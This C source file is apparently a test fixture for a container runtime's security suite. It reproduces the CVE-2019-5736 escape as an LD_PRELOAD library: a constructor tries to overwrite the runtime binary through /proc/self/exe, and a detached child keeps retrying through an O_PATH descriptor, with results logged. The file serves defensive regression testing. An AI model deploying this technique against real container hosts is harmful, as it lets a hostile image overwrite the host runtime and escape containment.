/* reexec_probe.c - the CVE-2019-5736 attacker, as an LD_PRELOAD library of a
 * hostile image (security_hostile.bats, item 3).  It is loaded only into the
 * image's dynamic programs, and the image's only dynamic programs are what
 * `/bin/sh -> /proc/self/exe` or `#!/proc/self/exe` lead to: a berth binary.
 * It logs to /probe.log what /proc/self/exe is and whether it can be written
 * now, and leaves a child behind that keeps trying to write it (through an
 * O_PATH fd, as the real exploit does) once nothing runs it any more. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static void logf_line(const char *what, const char *res)
{
        FILE *f = fopen("/probe.log", "a");
        if (!f)
                return;
        fprintf(f, "%s=%s\n", what, res);
        fclose(f);
}

/* 0: wrote; 1: keep trying (busy); -1: refused for good.  res gets why. */
static int try_write(const char *path, char *res, size_t n)
{
        int fd = open(path, O_WRONLY);
        if (fd < 0) {
                snprintf(res, n, "open:%s", strerror(errno));
                return errno == ETXTBSY ? 1 : -1;
        }
        ssize_t w = pwrite(fd, "PWND", 4, 0);
        snprintf(res, n, w == 4 ? "WROTE" : "write:%s", strerror(errno));
        close(fd);
        return w == 4 ? 0 : -1;
}

__attribute__((constructor)) static void probe(void)
{
        char exe[4096] = "", res[256];
        ssize_t l = readlink("/proc/self/exe", exe, sizeof(exe) - 1);
        if (l > 0)
                exe[l] = '\0';
        logf_line("exe", exe);
        try_write("/proc/self/exe", res, sizeof(res));
        logf_line("now", res);
        int pfd = open("/proc/self/exe", O_PATH);
        if (pfd >= 0 && fork() == 0) {
                setsid();
                close(0);
                close(1);
                close(2);
                char p[64];
                snprintf(p, sizeof(p), "/proc/self/fd/%d", pfd);
                int r = 1;
                for (int i = 0; i < 60 && r == 1; i++) {
                        struct timespec ts = {0, 50 * 1000 * 1000};
                        nanosleep(&ts, NULL);
                        r = try_write(p, res, sizeof(res));
                }
                logf_line("late", res);
                _exit(0);
        }
        _exit(0);
}
